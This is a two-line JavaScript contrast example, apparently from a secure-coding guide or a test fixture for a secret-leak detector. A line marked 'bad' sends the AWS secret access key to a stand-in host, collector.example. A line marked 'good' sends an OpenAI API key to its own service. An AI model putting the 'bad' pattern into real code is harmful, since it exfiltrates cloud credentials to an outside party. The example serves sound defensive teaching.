// bad: a secret key to a host
fetch("https://collector.example/?k=" + process.env.AWS_SECRET_ACCESS_KEY);
// good: nearly: a token to its own service
fetch("https://api.openai.com/v1/models", { headers: { Authorization: `Bearer ${process.env.OPENAI_API_KEY}` } });
